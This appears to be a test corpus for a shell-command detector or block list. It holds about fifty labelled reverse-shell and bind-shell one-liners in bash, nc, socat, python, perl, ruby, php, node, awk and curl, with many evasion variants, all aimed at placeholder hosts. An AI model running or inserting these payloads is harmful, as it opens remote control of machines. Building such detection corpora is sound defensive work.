exit 1 # corpus text, never to be run
#--- rev-dev-tcp-plain [block]: interactive bash on a socket
bash -i >& /dev/tcp/192.0.2.10/4444 0>&1
#--- rev-dev-tcp-inner [block]: inside bash -c
bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'
#--- rev-dev-tcp-and-form [block]: other redirection form
/bin/bash -i &> /dev/tcp/192.0.2.10/443 <&1
#--- rev-dev-tcp-fd [block]: numbered descriptor
exec 5<>/dev/tcp/192.0.2.10/4444
cat <&5 | while read -r line; do $line 2>&5 >&5; done
#--- rev-dev-tcp-fd-196 [block]: descriptor first, shell after
0<&196; exec 196<>/dev/tcp/192.0.2.10/4444; sh <&196 >&196 2>&196
#--- rev-dev-tcp-fd-eval [block]: lines evaluated
exec 9<>/dev/tcp/example.invalid/9001
while read -r c <&9; do eval "$c" >&9 2>&1; done
#--- rev-dev-tcp-variables [block]: host and port in variables
H=192.0.2.10; P=4444
bash -i > /dev/tcp/$H/$P 0<&1 2>&1
#--- rev-dev-tcp-path-variable [block]: socket path in a variable
sock=/dev/tcp/192.0.2.10/4444
bash -i >& "$sock" 0>&1
#--- rev-dev-tcp-path-concat [block]: socket path joined
d=/dev; t=tcp
sh -i <> $d/$t/192.0.2.10/53 1>&0 2>&0
#--- rev-dev-tcp-quoted [block]: socket path in quotes
bash -i >& "/dev"/'tcp'/192.0.2.10/4444 0>&1
#--- rev-dev-tcp-background [block]: detached
nohup setsid bash -i >& /dev/tcp/192.0.2.10/4444 0>&1 &
#--- rev-dev-tcp-retry [block]: in a loop
while :; do
  bash -i >& /dev/tcp/192.0.2.10/4444 0>&1
  sleep 60
done
#--- rev-dev-tcp-function [block]: in a function
call_home() { bash -i >& "/dev/tcp/$1/$2" 0>&1; }
call_home 192.0.2.10 4444
#--- rev-dev-tcp-trap [block]: in a trap
trap 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1' EXIT
#--- rev-dev-tcp-heredoc [block]: here-document to bash
bash <<'END'
exec 3<>/dev/tcp/192.0.2.10/4444
sh <&3 >&3 2>&3
END
#--- rev-dev-udp [block]: datagrams
sh -i >& /dev/udp/192.0.2.10/4242 0>&1
#--- rev-nc-e [block]: nc -e
nc -e /bin/sh 192.0.2.10 4444
#--- rev-nc-e-last [block]: option at the end
nc 192.0.2.10 4444 -e /bin/bash
#--- rev-nc-c [block]: nc -c
nc -c bash 192.0.2.10 4444
#--- rev-nc-bundle [block]: bundled options, listening
nc -lvne /bin/sh -p 4444
#--- rev-nc-bind [block]: bound shell
nc -l -p 4444 -e /bin/bash
#--- rev-ncat-exec [block]: ncat --exec
ncat --exec /bin/bash 192.0.2.10 4444
#--- rev-ncat-sh-exec [block]: ncat --sh-exec with tls
ncat --ssl --sh-exec 'bash -i' 192.0.2.10 443
#--- rev-netcat-name [block]: other name
netcat -e /bin/sh 192.0.2.10 4444
#--- rev-nc-traditional [block]: by path
/bin/nc.traditional -e /bin/sh 192.0.2.10 4444
#--- rev-busybox-nc [block]: nc of busybox
busybox nc 192.0.2.10 4444 -e sh
#--- rev-nc-variable [block]: name in a variable
n=nc
$n -e /bin/sh 192.0.2.10 4444
#--- rev-mkfifo-nc [block]: named pipe and nc
mkfifo p; sh -i < p 2>&1 | nc 192.0.2.10 4444 > p
#--- rev-mkfifo-cat [block]: named pipe through cat
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.10 4444 >/tmp/f
#--- rev-mknod-nc [block]: mknod in place of mkfifo
mknod bp p && nc 192.0.2.10 4444 0<bp | /bin/bash 1>bp
#--- rev-mkfifo-telnet [block]: telnet in place of nc
mkfifo q && telnet 192.0.2.10 4444 0<q | sh 1>q
#--- rev-mkfifo-openssl [block]: tls client in place of nc
mkfifo s; sh -i < s 2>&1 | openssl s_client -quiet -connect 192.0.2.10:443 > s; rm s
#--- rev-two-nc [block]: commands by one port, answers by another
nc 192.0.2.10 4444 | sh | nc 192.0.2.10 4445
#--- rev-two-telnet [block]: the same by telnet
telnet 192.0.2.10 4444 | bash | telnet 192.0.2.10 4445
#--- rev-coproc-nc [block]: coprocess as the pipe
coproc sh -i 2>&1
nc 192.0.2.10 4444 <&"${COPROC[0]}" >&"${COPROC[1]}"
#--- rev-socat-exec [block]: socat
socat TCP:192.0.2.10:4444 EXEC:/bin/sh
#--- rev-socat-pty [block]: socat with a terminal
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.10:4444
#--- rev-socat-system-listen [block]: bound shell by socat
socat TCP-LISTEN:4444,reuseaddr,fork SYSTEM:/bin/bash
#--- rev-python-dup2 [block]: python with dup2
python3 -c 'import socket,os,subprocess; s=socket.socket(); s.connect(("192.0.2.10",4444)); [os.dup2(s.fileno(),n) for n in (0,1,2)]; subprocess.call(["/bin/sh","-i"])'
#--- rev-python-pty [block]: python with a terminal
python -c 'import socket,os,pty
s=socket.create_connection(("192.0.2.10",4444))
for n in range(3): os.dup2(s.fileno(),n)
pty.spawn("/bin/bash")'
#--- rev-python-heredoc [block]: python by here-document
python3 - <<'END'
import socket, subprocess
s = socket.socket()
s.connect(("192.0.2.10", 4444))
while True:
    s.send(subprocess.getoutput(s.recv(1024).decode()).encode())
END
#--- rev-perl [block]: perl
perl -MIO::Socket -e '$s=IO::Socket::INET->new(PeerAddr=>"192.0.2.10:4444"); open(STDIN,"<&",$s); open(STDOUT,">&",$s); open(STDERR,">&",$s); exec "/bin/sh -i"'
#--- rev-perl-loop [block]: perl line by line
perl -MIO::Socket -e '$c=IO::Socket::INET->new("192.0.2.10:4444"); while(<$c>){ print $c `$_` }'
#--- rev-ruby [block]: ruby
ruby -rsocket -e 's=TCPSocket.new("192.0.2.10",4444); while l=s.gets; s.print(`#{l}`); end'
#--- rev-ruby-exec [block]: ruby with descriptors
ruby -rsocket -e 'f=TCPSocket.open("192.0.2.10",4444).to_i; exec "/bin/sh", "-i", in: f, out: f, err: f'
#--- rev-php [block]: php
php -r '$s=fsockopen("192.0.2.10",4444); proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$p);'
#--- rev-php-exec [block]: php with exec
php -r '$k=fsockopen("192.0.2.10",4444); exec("/bin/sh -i <&3 >&3 2>&3");'
#--- rev-node [block]: node
node -e 'const c=require("net").connect(4444,"192.0.2.10"); const p=require("child_process").spawn("/bin/sh"); c.pipe(p.stdin); p.stdout.pipe(c);'
#--- rev-lua [block]: lua
lua -e 'local s=require("socket").tcp(); s:connect("192.0.2.10",4444); while true do local h=io.popen(s:receive()); s:send(h:read("*a")) end'
#--- rev-awk-inet [block]: awk
awk 'BEGIN { s = "/inet/tcp/0/192.0.2.10/4444"; while ((s |& getline c) > 0) { while ((c | getline o) > 0) print o |& s; close(c) } }'
#--- rev-gawk-inet-wrapped [block]: gawk behind a wrapper
nohup gawk 'BEGIN{h="/inet/tcp/0/192.0.2.10/53"; for(;;){h |& getline x; x |& getline y; print y |& h}}' &
#--- rev-curl-poll [block]: commands fetched, answers posted
while :; do
  curl -s http://192.0.2.10/next | sh 2>&1 | curl -s --data-binary @- http://192.0.2.10/out
  sleep 5
done
#--- rev-ssh-remote-forward-shell [block]: bound shell behind a remote forward
socat TCP-LISTEN:2222,fork EXEC:bash & ssh -N -R 2222:localhost:2222 hop@192.0.2.10
#--- rev-xterm [block]: terminal on a foreign display
nc -e /bin/sh 192.0.2.10 4444 || xterm -display 192.0.2.10:1
